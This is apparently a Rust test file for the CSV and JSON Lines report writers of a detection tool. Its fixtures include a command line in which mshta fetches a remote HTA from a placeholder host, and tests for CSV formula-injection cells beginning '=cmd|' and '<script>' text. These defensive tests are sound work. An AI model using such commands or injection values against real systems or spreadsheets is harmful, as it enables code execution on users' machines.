//! CSV and JSON Lines as other programs read them: headers, sorting, escaping, types. The HTML page has its own tests.

mod report_support;

use std::collections::BTreeSet;

use evql::finding::Outcome;
use evql::report::csv::CsvOptions;
use evql::report::{Format, Options, write_folder, write_stream};
use report_support as support;
use serde_json::Value;

type Rows = Vec<Vec<String>>;

/// Header and rows as the csv crate reads them back.
fn parsed(bytes: &[u8]) -> (Vec<String>, Rows) {
    let mut reader = ::csv::Reader::from_reader(bytes);
    let own = |record: &::csv::StringRecord| record.iter().map(str::to_owned).collect::<Vec<_>>();
    let header = own(reader.headers().expect("a header"));
    let rows = reader.records().map(|record| own(&record.expect("a row as wide as the header"))).collect();
    (header, rows)
}

fn timeline(outcome: &Outcome, options: CsvOptions) -> (Vec<u8>, u64) {
    let mut bytes = Vec::new();
    let neutralised =
        evql::report::csv::write_timeline(outcome, options, &mut bytes).expect("a Vec takes every write");
    (bytes, neutralised)
}

fn findings(outcome: &Outcome) -> Vec<u8> {
    let mut bytes = Vec::new();
    evql::report::csv::write_findings(outcome, CsvOptions::default(), &mut bytes)
        .expect("a Vec takes every write");
    bytes
}

fn column<'a>(header: &[String], row: &'a [String], name: &str) -> &'a str {
    let at = header.iter().position(|column| column == name).expect("a known column");
    &row[at]
}

#[test]
fn headers_are_a_contract_that_schema_numbers() {
    let (header, rows) = parsed(&timeline(&support::plain(), CsvOptions::default()).0);
    assert_eq!(
        header.join(","),
        "datetime,timestamp_desc,message,severity,row_type,finding_id,rule_id,rule_name,host,user,process_name,image,pid,process_guid,\
         command_line,parent_image,parent_command_line,parent_process_guid,ancestry,protocol,direction,src_ip,src_port,dst_ip,dst_port,\
         dst_host,dst_scope,delta_ms,sha256,original_file_name,attack,hosts_seen,event_id,provider,channel,record_id,created,source_file,\
         source_sha256,copies,flags,tag,data_type,base_severity,risk_score,base_risk,schema"
    );
    assert!(rows.iter().all(|row| row.last().map(String::as_str) == Some("1")));
    let (header, rows) = parsed(&findings(&support::plain()));
    assert_eq!(
        header.join(","),
        "finding_id,severity,risk_score,status,host,user,process_name,image,pid,process_guid,integrity_level,logon_id,command_line,\
         current_directory,original_file_name,name_mismatch,company,sha256,parent_image,parent_command_line,ancestry,start_time,\
         start_created,first_net_time,last_net_time,clock,delta_ms,net_count,dst_count,dst_list,dst_first,dst_port_first,dst_scope,\
         dns_names,rule_id,rule_version,rule_name,attack,tactic,why,flags,event_ids,record_ids,channel,source_file,source_sha256,copies,\
         triage_note,base_severity,base_risk,hosts_process,hosts_destination,hosts_command,hosts_sha256,hosts_pattern,command_shape,end_time,\
         confidence,start_record_id,net_record_ids,schema"
    );
    assert_eq!(rows.len(), support::plain().findings.len());
    assert!(rows.iter().all(|row| row.last().map(String::as_str) == Some("1")));
}

#[test]
fn a_connection_row_holds_the_facts_of_its_process_and_of_itself() {
    let (header, rows) = parsed(&timeline(&support::plain(), CsvOptions::default()).0);
    let row = rows
        .iter()
        .find(|row| column(&header, row, "record_id") == "16004")
        .expect("the connection of finding 1");
    for (name, value) in [
        ("datetime", "2024-03-01T10:01:02.406000+00:00"),
        ("created", "2024-03-01T10:01:02.408000+00:00"),
        ("timestamp_desc", "Network connection"),
        (
            "message",
            "[high] mshta.exe on WS01 (CORP\\anna) connected to 203.0.113.2:443, 1.406 s after the first event [record 16004, finding f-0000000000]",
        ),
        ("host", "WS01"),
        ("command_line", "C:\\Windows\\System32\\mshta.exe http://update.example/a1.hta --quiet"),
        ("parent_image", "C:\\Windows\\explorer.exe"),
        ("ancestry", "explorer.exe(1372) > mshta.exe(4243)"),
        ("pid", "4243"),
        ("direction", "outbound"),
        ("dst_ip", "203.0.113.2"),
        ("dst_port", "443"),
        ("dst_scope", "documentation"),
        ("delta_ms", "1406"),
        ("attack", "T1218.005"),
        ("tag", "[\"T1218.005\",\"severity:high\"]"),
        ("data_type", "evql:event"),
        ("flags", ""),
    ] {
        assert_eq!(column(&header, row, name), value, "{name}");
    }
}

#[test]
fn rows_are_sorted_and_every_message_differs() {
    let (header, rows) = parsed(&timeline(&support::large(500, 9), CsvOptions::default()).0);
    let key = |row: &Vec<String>| {
        (column(&header, row, "datetime").to_owned(), column(&header, row, "host").to_owned())
    };
    assert!(rows.iter().map(key).is_sorted());
    let messages: BTreeSet<_> = rows.iter().map(|row| column(&header, row, "message")).collect();
    assert_eq!(messages.len(), rows.len());
    assert!(
        rows.iter()
            .all(|row| column(&header, row, "datetime").len() == "2024-03-01T10:00:00.123000+00:00".len())
    );
}

#[test]
fn hostile_cells_stay_cells() {
    let outcome = support::hostile();
    let (bytes, neutralised) = timeline(&outcome, CsvOptions::default());
    let (header, rows) = parsed(&bytes);
    let near = outcome.near.listed.iter().map(|miss| &miss.nearly);
    let events = outcome.findings.iter().chain(near).map(|finding| finding.present().count());
    let stories = outcome.findings.iter().filter(|finding| finding.story.is_ok()).count();
    assert_eq!(
        rows.len(),
        events.sum::<usize>() + 3 * stories,
        "an ancestor, a child and a context row beside the evidence"
    );
    assert_eq!(bytes.iter().filter(|byte| **byte == b'\n').count(), rows.len() + 1, "one line per row");
    for cell in rows.iter().flatten() {
        assert!(!cell.starts_with(['=', '+', '-', '@', '\t', '\r', '\n']), "{cell}");
        assert!(!cell.chars().any(char::is_control) && !cell.contains('\u{202e}'), "{cell:?}");
        assert!(cell.len() < 9_000);
    }
    let flagged =
        rows.iter().filter(|row| column(&header, row, "flags") == "recovered;cell_neutralised").count();
    assert!(flagged >= 4, "both events of both formula findings carry the flag");
    let (raw, none) = timeline(&outcome, CsvOptions { raw: true, bom: false });
    assert_eq!(none, 0);
    let untouched = parsed(&raw).1;
    assert!(untouched.iter().flatten().any(|cell| cell.starts_with("=cmd|")));
    let disarmed = rows
        .iter()
        .flatten()
        .zip(untouched.iter().flatten())
        .filter(|(cell, raw)| **cell == format!("'{raw}"));
    assert_eq!(
        disarmed.count() as u64,
        neutralised,
        "every disarmed cell is its raw self after a quote, and counted"
    );
}

#[test]
fn what_was_set_aside_never_passes_for_a_finding() {
    let outcome = support::hostile();
    let mut bytes = Vec::new();
    let neutralised =
        evql::report::csv::write_suppressed(&outcome, CsvOptions::default(), &mut bytes).expect("written");
    let (header, rows) = parsed(&bytes);
    let (of_findings, _) = parsed(&findings(&outcome));
    assert_eq!(header[..4], ["allow_id", "allow_reason", "allow_author", "allow_expires"]);
    assert_eq!(header[4..], of_findings, "otherwise a finding's columns");
    assert_eq!(rows.len(), outcome.suppressed.len());
    assert_eq!(bytes.iter().filter(|byte| **byte == b'\n').count(), rows.len() + 1, "one line per row");
    let row = &rows[0];
    assert_eq!(column(&header, row, "status"), "suppressed");
    let set_aside = &outcome.suppressed[0];
    assert_eq!(column(&header, row, "finding_id"), set_aside.finding.id);
    assert!(!findings(&outcome).windows(32).any(|part| part == set_aside.finding.id.as_bytes()));
    assert!(column(&header, row, "allow_reason").starts_with("<script>"), "the entry's reason");
    assert!(rows.iter().flatten().all(|cell| !cell.starts_with(['=', '+', '-', '@'])));
    let disarmed = rows.iter().flatten().filter(|cell| cell.starts_with('\''));
    assert_eq!(disarmed.count() as u64, neutralised);
}

#[test]
fn confidence_is_of_the_data_and_flags_say_what_is_wrong_with_it() {
    let mut outcome = support::plain();
    outcome.findings.truncate(3);
    let [clean, noted, recovered] = &mut outcome.findings[..] else { panic!("three findings") };
    clean.notes.clear();
    noted.notes = vec!["Something must be known".to_owned()];
    let events: Vec<_> = noted.events.iter_mut().flatten().collect();
    let [start, connection] = &events[..] else { panic!("two events") };
    assert!(start.created < connection.created);
    let start_time = start.timestamp;
    let connection = events.into_iter().nth(1).expect("a connection");
    connection.timestamp = start_time.plus_ticks(-10_000);
    for event in recovered.events.iter_mut().flatten() {
        event.evidence.recovered = true;
    }
    let (header, rows) = parsed(&findings(&outcome));
    let cells = |name: &str| -> Vec<&str> { rows.iter().map(|row| column(&header, row, name)).collect() };
    assert_eq!(cells("confidence"), ["high", "medium", "low"]);
    assert_eq!(cells("flags"), ["", "clocks_disagree", "recovered"]);
    assert_eq!(cells("start_record_id"), ["16003", "16006", "16009"]);
    assert_eq!(cells("net_record_ids"), ["16004", "16007", "16010"]);
}

#[test]
fn messages_are_short_whatever_the_fields_hold() {
    let (header, rows) = parsed(&timeline(&support::hostile(), CsvOptions { raw: true, bom: false }).0);
    let mut lines = Vec::new();
    evql::report::jsonl::write_timeline(&support::hostile(), &mut lines).expect("a Vec takes every write");
    for line in String::from_utf8(lines).expect("UTF-8").lines() {
        let line: Value = serde_json::from_str(line).expect("JSON");
        assert!(line["message"].as_str().expect("a message").len() < 300);
        assert!(
            line["timestamp"].is_i64() && line["datetime"].is_string() && line["timestamp_desc"].is_string()
        );
    }
    assert!(rows.iter().all(|row| !column(&header, row, "message").is_empty()));
}

#[test]
fn a_byte_order_mark_only_when_asked() {
    let plain = timeline(&support::plain(), CsvOptions::default()).0;
    let marked = timeline(&support::plain(), CsvOptions { raw: false, bom: true }).0;
    assert!(plain.starts_with(b"\"datetime\""));
    assert_eq!(marked, [b"\xef\xbb\xbf".as_slice(), &plain].concat());
}

#[test]
fn a_finding_is_one_object_with_its_events_in_order() {
    let mut bytes = Vec::new();
    write_stream(Format::Jsonl, &support::plain(), &support::run(), &Options::default(), &mut bytes)
        .expect("written");
    let text = String::from_utf8(bytes).expect("UTF-8");
    let lines: Vec<Value> = text.lines().map(|line| serde_json::from_str(line).expect("JSON")).collect();
    assert_eq!(lines.len(), 6);
    let first = &lines[0];
    let keys: Vec<_> = first.as_object().expect("an object").keys().map(String::as_str).collect();
    assert_eq!(
        keys,
        [
            "type",
            "schema",
            "finding_id",
            "rule",
            "severity",
            "base_severity",
            "risk_score",
            "base_risk",
            "why",
            "prevalence",
            "host",
            "user",
            "process",
            "clock",
            "delta_ms",
            "threat",
            "notes",
            "resolved_from_excluded_name",
            "story",
            "events"
        ]
    );
    assert_eq!(first["process"]["parent"]["name"], "explorer.exe");
    assert_eq!(first["process"]["pid"], 4243);
    assert_eq!(first["delta_ms"], 1406);
    assert_eq!(first["threat"][0]["technique"][0]["id"], "T1218.005");
    let connection = &first["events"][1];
    assert_eq!(connection["@timestamp"], "2024-03-01T10:01:02.406000+00:00");
    assert_eq!(connection["event"]["created"], "2024-03-01T10:01:02.408000+00:00");
    assert_eq!(connection["event"]["code"], "3");
    assert_eq!(connection["event"]["category"][0], "network");
    assert_eq!(connection["winlog"]["record_id"], "16004");
    assert_eq!(connection["destination"]["ip"], "203.0.113.2");
    assert_eq!(connection["evidence"]["copies"], 1);
    assert!(lines[5]["events"][1].is_null(), "a missing event keeps its place");
}

#[test]
fn json_keeps_hostile_text_whole() {
    let outcome = support::hostile();
    for (finding, attack) in outcome.findings.iter().zip(support::ATTACKS) {
        let object = evql::report::jsonl::finding_object(finding, None);
        assert_eq!(object["process"]["command_line"], *attack);
        assert_eq!(object["events"][0]["winlog"]["computer_name"], *attack);
        assert_eq!(
            object["events"][0]["winlog"]["record_id"],
            finding.events[0].as_ref().and_then(|e| e.record_id).map(|id| id.to_string()).unwrap_or_default()
        );
    }
    let long = evql::report::jsonl::finding_object(&outcome.findings[support::ATTACKS.len()], None);
    assert_eq!(long["process"]["command_line"].as_str().map(str::len), Some(3 + 3 * 350_000));
}

#[test]
fn a_folder_is_complete_hashed_and_never_overwritten_unasked() {
    let folder = support::fresh_folder("report-plain");
    let (outcome, run, options) = (support::plain(), support::run(), Options::default());
    let written = write_folder(&folder, &Format::ALL, &outcome, &run, &options).expect("written");
    let mut names: Vec<_> = written
        .files
        .iter()
        .map(|path| path.file_name().expect("a name").to_string_lossy().into_owned())
        .collect();
    assert_eq!(names.last().map(String::as_str), Some("run.json"));
    names.sort();
    let mut found: Vec<_> = std::fs::read_dir(&folder)
        .expect("a folder")
        .map(|entry| entry.expect("an entry").file_name().to_string_lossy().into_owned())
        .collect();
    found.sort();
    assert_eq!(found, names, "nothing else is left behind");
    let record: Value =
        serde_json::from_slice(&std::fs::read(folder.join("run.json")).expect("read")).expect("JSON");
    for output in record["outputs"].as_array().expect("a list") {
        use sha2::Digest;
        let bytes = std::fs::read(folder.join(output["name"].as_str().expect("a name"))).expect("read");
        let hash: String = sha2::Sha256::digest(&bytes).iter().map(|byte| format!("{byte:02x}")).collect();
        assert_eq!(output["sha256"], hash.as_str());
        assert_eq!(output["size"], bytes.len());
    }
    assert_eq!(record["counts"]["findings_by_severity"]["high"], 2);
    assert_eq!(record["hosts"][1]["events"]["22"], 95);
    let again = write_folder(&folder, &[Format::Jsonl], &outcome, &run, &options);
    assert!(matches!(again, Err(evql::error::Error::Exists(_))), "{again:?}");
    let forced = Options { force: true, ..options };
    write_folder(&folder, &Format::ALL, &outcome, &run, &forced).expect("overwritten when asked");
}

#[test]
fn evidence_and_problems_are_tables_too() {
    let mut bytes = Vec::new();
    evql::report::csv::write_evidence(&support::hostile(), CsvOptions::default(), &mut bytes)
        .expect("written");
    let (header, rows) = parsed(&bytes);
    assert_eq!(
        header.join(","),
        "source,size,modified,sha256,status,chunks,records,sysmon_records,first,last,problems,kind,recovered,relation,in_newer,only_in_older,filtered,vouched,changed"
    );
    assert_eq!((rows.len(), column(&header, &rows[3], "first")), (6, ""));
    bytes.clear();
    evql::report::csv::write_problems(&support::plain(), CsvOptions::default(), &mut bytes).expect("written");
    let (header, rows) = parsed(&bytes);
    assert_eq!(header.join(","), "source,chunk,record,kind,lost,reason");
    assert_eq!(rows[0][1..], ["3", "1201", "record", "yes", "the record's template ends early"]);
}

#[test]
fn hostile_results_are_left_for_pandas_to_read() {
    let folder = support::fresh_folder("report-hostile");
    write_folder(&folder, &Format::ALL, &support::hostile(), &support::hostile_run(), &Options::default())
        .expect("written");
}
